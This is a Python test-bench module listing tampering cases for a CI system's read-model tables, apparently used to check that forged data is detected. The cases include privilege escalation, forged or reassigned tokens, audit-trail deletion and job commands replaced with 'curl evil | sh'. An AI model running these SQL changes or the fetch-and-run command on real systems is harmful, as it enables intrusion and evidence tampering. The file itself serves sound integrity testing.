"""Kinds of change in the tables of read models."""

from typing import Any

from bench.support.tampering.changes import change_row, forge_artifact, get_artifact
from bench.support.tampering.kind import Kind, of_model
from projections.artifacts import ArtifactRow, ArtifactUsageRow
from projections.audit_trail import TrailRow
from projections.auth import ApiTokenRow, SessionRow, UserRow
from projections.autoscaling import AutoscalingRow
from projections.build_positions import BuildPositionsRow, DeletedJobRow
from projections.builds import BuildRow, CommentRow, ExplanationRow
from projections.classification_rules import RulesVersionRow
from projections.docker_agents import DockerAgentRow
from projections.emerging import EmergenceRow
from projections.engine.model import Row
from projections.evals import EvalRow
from projections.event_index import RelatedRow
from projections.identity_providers import IdentityProviderRow, IdentityRow
from projections.inquiries import InquiryRow
from projections.jira import JiraRow
from projections.jobs import ConfigurationRow, JobRow
from projections.known_issues import IssueFailureRow, KnownIssueRow
from projections.node_commands import NodeCommandRow
from projections.nodes import NodeRow
from projections.pools import PoolRow
from projections.projects import MemberRow, ProjectRow
from projections.quarantine import QuarantineRow
from projections.results import OutputsRow, ReportRow, ResultTextRow, SupersededRow
from projections.results_blocks import BlockRow
from projections.results_cases import CaseStatsRow, CatalogueRow, TestCaseRow
from projections.results_days import CaseDayRow, CaseRunsRow
from projections.results_runs import BuildOutcomeRow, NotableRunRow, SuspectRow
from projections.scm import ScmEndpointRow
from projections.search import (
    BuildDocument,
    FailureDocument,
    JobDocument,
    NodeDocument,
    ProjectDocument,
    TestDocument,
)
from projections.teams import ChannelRow
from projections.templates import TemplateRow
from projections.tickets import FailingTicketRow
from projections.triage import RuleMatchRow, TriageRow
from projections.triggers import TriggerRow
from projections.vcenter import VcenterRow
from projections.vcenter_operations import VcenterOperationRow
from projections.vcenter_vms import VcenterVmRow
from projections.webhooks import WebhookRow

STATUS_FAILED = ("status", "'failed'")


def of_row(
    model: str, row: type[Row], what: str, column: str, value: str, *more: str, where: str = "true", **options: Any
) -> Kind:
    return of_model(model, row.table, what, change_row(row.table, column, value, where), *more, **options)


def of_rows(model: str, row: type[Row], what: str, *more: str) -> Kind:
    return of_model(model, row.table, what, lambda scene: scene.execute(f"DELETE FROM {row.table}"), *more)


READ_MODEL_KINDS = (
    of_model(
        "builds",
        BuildRow.table,
        "a failed build is shown as passed",
        change_row(BuildRow.table, "status", "'passed'", "status = 'failed'"),
        "comparison",
    ),
    of_model(
        "results",
        BlockRow.table,
        "the results of a report are removed",
        lambda scene: scene.execute(f"DELETE FROM {BlockRow.table}"),
    ),
    of_model(
        "auth",
        UserRow.table,
        "a user is made an administrator",
        change_row(UserRow.table, "role", "'admin'", "role <> 'admin'"),
        "comparison",
    ),
    of_model(
        "auth",
        ApiTokenRow.table,
        "an API token is made up",
        lambda scene: scene.execute(
            f"INSERT INTO {ApiTokenRow.table} VALUES (999999, 1, 'made up', '\\x00', now(), '[]')"
        ),
        "comparison",
    ),
    of_model(
        "auth",
        UserRow.table,
        "the password of a user is replaced",
        change_row(UserRow.table, "password_hash", "'x'"),
        "comparison",
    ),
    of_model(
        "auth",
        ApiTokenRow.table,
        "an API token gets another owner",
        change_row(ApiTokenRow.table, "user_id", "user_id + 1"),
        "comparison",
    ),
    of_model(
        "projects",
        MemberRow.table,
        "a membership is removed",
        lambda scene: scene.execute(f"DELETE FROM {MemberRow.table}"),
        "comparison",
    ),
    of_model(
        "nodes",
        NodeRow.table,
        "the token of an agent is replaced",
        change_row(NodeRow.table, "token_hash", "'\\x00'"),
        "comparison",
    ),
    of_model(
        "nodes",
        NodeRow.table,
        "an agent gets a second token",
        change_row(NodeRow.table, "old_token_until", "'2099-01-01', old_token_hash = '\\x00'"),
        "comparison",
    ),
    of_model(
        "identity_providers",
        IdentityProviderRow.table,
        "an identity provider is made up",
        lambda scene: scene.execute(
            f"INSERT INTO {IdentityProviderRow.table} VALUES (9999, 'Company', 'https://idp', 'https://idp/sso', '[]',"
            " true, true, true, true, 'admin', '', '', '{}', NULL, now(), now())"
        ),
        "comparison",
    ),
    of_model(
        "trail",
        TrailRow.table,
        "events are left out of the audit trail",
        lambda scene: scene.execute(f"DELETE FROM {TrailRow.table} WHERE position = 9"),
        "comparison",
    ),
    Kind(
        "read models",
        "a position is set behind the end of the log",
        change_row("projection_positions", "position", "position + 1000", "name = 'builds'"),
        ("readyz",),
        ("projection_positions",),
    ),
    of_model(
        "artifacts",
        ArtifactRow.table,
        "the name of an artifact is changed",
        change_row(ArtifactRow.table, "path", "'other.bin'"),
    ),
    of_model(
        "artifacts",
        ArtifactRow.table,
        "the SHA-256 of an artifact is changed, and the file with it",
        forge_artifact,
        "contents",
        "reading",
        read=get_artifact,
    ),
    of_row("auth", SessionRow, "a session gets another user", "user_id", "user_id + 1", "comparison"),
    of_model(
        "identity_providers",
        IdentityRow.table,
        "an identity is linked to an administrator",
        lambda scene: scene.execute(f"INSERT INTO {IdentityRow.table} VALUES ('made up', 1, 1, 'me', true, now())"),
        "comparison",
    ),
    of_row("projects", ProjectRow, "fewer builds of a project are kept", "retention_builds", "1", "comparison"),
    of_row("templates", TemplateRow, "the command of a template is changed", "command", "'curl evil | sh'"),
    of_row("jobs", JobRow, "a job is shown as disabled", "enabled", "NOT enabled"),
    of_row("jobs", ConfigurationRow, "the command of a job is changed", "command", "'curl evil | sh'"),
    of_row(
        "triggers",
        TriggerRow,
        "a job starts for other branches",
        "triggers",
        """'{"branches": ["**"]}'""",
        "comparison",
    ),
    of_row(
        "pools", PoolRow, "a pool for untrusted builds is shown as trusted", "untrusted", "NOT untrusted", "comparison"
    ),
    of_row("nodes", NodeRow, "a node is moved to another pool", "pool_id", "coalesce(pool_id, 0) + 1", "comparison"),
    of_model(
        "node_commands",
        NodeCommandRow.table,
        "a command for a node is made up",
        lambda scene: scene.execute(f"INSERT INTO {NodeCommandRow.table} VALUES (999999, 1, 10, now())"),
    ),
    of_row(
        "builds",
        BuildRow,
        "a build is put into another build group",
        "group_id",
        "coalesce(group_id, 0) + 1",
        "comparison",
    ),
    of_row(
        "builds",
        BuildRow,
        "a build is shown as one that another change started",
        "trigger",
        """'{"kind": "push", "change_id": 999999}'""",
        "comparison",
    ),
    of_row("builds", CommentRow, "a comment is changed", "text", "'looks good'"),
    of_model(
        "builds",
        ExplanationRow.table,
        "an explanation of a failed build is made up",
        lambda scene: scene.execute(f"INSERT INTO {ExplanationRow.table} VALUES (999999, 1, 1, '[]', '[]')"),
    ),
    of_rows("quarantine", QuarantineRow, "tests are taken out of the quarantine"),
    of_model(
        "classification_rules",
        RulesVersionRow.table,
        "classification rules are made up",
        lambda scene: scene.execute(f"INSERT INTO {RulesVersionRow.table} VALUES (999999, 1, '[]', now())"),
    ),
    of_row("known_issues", KnownIssueRow, "the pattern of a known issue is changed", "value", "'.*'", "comparison"),
    of_rows("known_issues", IssueFailureRow, "what a known issue learned from failures is removed", "comparison"),
    of_row("results", ResultTextRow, "the message of a failure is changed", "message", "'ok'"),
    of_rows("results", OutputsRow, "the output of tests is removed"),
    of_model(
        "results",
        SupersededRow.table,
        "a result is shown as replaced",
        lambda scene: scene.execute(f"INSERT INTO {SupersededRow.table} VALUES (1, 1)"),
    ),
    of_row("results", ReportRow, "a report is shown as replaced", "is_replaced", "true"),
    of_model(
        "results",
        TestCaseRow.table,
        "the names of two test cases are swapped",
        lambda scene: scene.execute(
            f"UPDATE {TestCaseRow.table} a SET node_id = b.node_id FROM {TestCaseRow.table} b"
            f" WHERE a.id + b.id = (SELECT 2 * min(id) + 1 FROM {TestCaseRow.table}) AND a.id <> b.id"
        ),
        "comparison",
    ),
    of_row("results", CaseStatsRow, "fewer failures of a test are counted", "failures", "failures - 1"),
    of_row("results", NotableRunRow, "a failure of a test is hidden", "flags", "0"),
    of_rows("results", SuspectRow, "tests that have failed are left out of their project's health"),
    of_row("results", CaseRunsRow, "tests are shown as if they had not run for long", "day", "0"),
    of_rows("results", CaseDayRow, "the runs of tests before single days are removed"),
    of_row("results", BuildOutcomeRow, "a build is shown as broken", "failed", "1000000"),
    of_model(
        "emerging",
        EmergenceRow.table,
        "a rise of a test's failures is made up",
        lambda scene: scene.execute(f"INSERT INTO {EmergenceRow.table} VALUES (1, 1, 1, 1, 1, now(), 1, 0, 1, 1)"),
    ),
    of_row("results", CatalogueRow, "test cases of a project are left out of the catalogue", "version", "version - 1"),
    of_rows("triage", RuleMatchRow, "the matches of known issues are removed"),
    of_row("triage", TriageRow, "the classification of a failure is changed", "classification", "'no_defect'"),
    of_row("artifacts", ArtifactUsageRow, "a project is shown with fewer bytes of artifacts", "size_bytes", "0"),
    of_row("webhooks", WebhookRow, "the address of a webhook is shown changed", "url", "'https://example.com'"),
    of_row("teams_channels", ChannelRow, "the name of a Teams channel is changed", "title", "'Other'"),
    of_row("scm", ScmEndpointRow, "the repository of an SCM endpoint is changed", "repo", "'evil/web'"),
    of_row("jira", JiraRow, "the host of a Jira integration is changed", "host", "'https://example.com'"),
    of_row("autoscaling", AutoscalingRow, "the maximum of a scaled node pool is raised", "maximum", "maximum + 1"),
    of_row("evals", EvalRow, "the model of an evaluation is changed", "model", "'evil'"),
    of_row("docker_agents", DockerAgentRow, "the image of a Docker agent is changed", "image", "'evil'"),
    of_row("vcenter", VcenterRow, "the host of a vCenter is changed", "host", "'vcenter.example.org'"),
    of_row(
        "vcenter_operations",
        VcenterOperationRow,
        "the end of an operation on a vCenter is changed",
        "status",
        "CASE status WHEN 'failed' THEN 'completed' ELSE 'failed' END",
    ),
    of_model(
        "vcenter_vms",
        VcenterVmRow.table,
        "a virtual machine is made up",
        lambda scene: scene.execute(
            f"INSERT INTO {VcenterVmRow.table} VALUES (1, 'vm-1', 'x', 'powered_on', '', false, now())"
        ),
    ),
    of_model(
        "inquiries",
        InquiryRow.table,
        "a question to the assistant is made up",
        lambda scene: scene.execute(
            f"INSERT INTO {InquiryRow.table}"
            " VALUES ('chat-1', 'chat', 'failed', 1, 1, 1, 1, '', 1, now(), now(), '', '', 0)"
        ),
    ),
    of_model(
        "tickets",
        FailingTicketRow.table,
        "a ticket is made up",
        lambda scene: scene.execute(f"INSERT INTO {FailingTicketRow.table} VALUES ('A-1', 1, 1, 1, 'x', 1, now())"),
    ),
    of_model(
        "related",
        RelatedRow.table,
        "an event is left out of the past of a resource",
        lambda scene: scene.execute(
            f"DELETE FROM {RelatedRow.table} WHERE ctid = (SELECT ctid FROM {RelatedRow.table} LIMIT 1)"
        ),
    ),
    of_row(
        "build_positions",
        BuildPositionsRow,
        "a past build is shown as passed",
        "verdict",
        "'passed'",
        where="verdict = 'failed'",
    ),
    of_model(
        "build_positions",
        DeletedJobRow.table,
        "a job is shown as deleted in the past",
        lambda scene: scene.execute(f"INSERT INTO {DeletedJobRow.table} VALUES (1, 2)"),
    ),
    of_rows("search", BuildDocument, "no build is found by a search"),
    of_rows("search", FailureDocument, "no failure is found by a search"),
    of_row("search", TestDocument, "a test is found by another name", "words", "'forged:1A'"),
    of_row("search", JobDocument, "a job is found by another name", "words", "'forged:1A'"),
    of_row("search", NodeDocument, "a node is found by another name", "words", "'forged:1A'"),
    of_row("search", ProjectDocument, "a project is found by another name", "words", "'forged:1A'"),
)
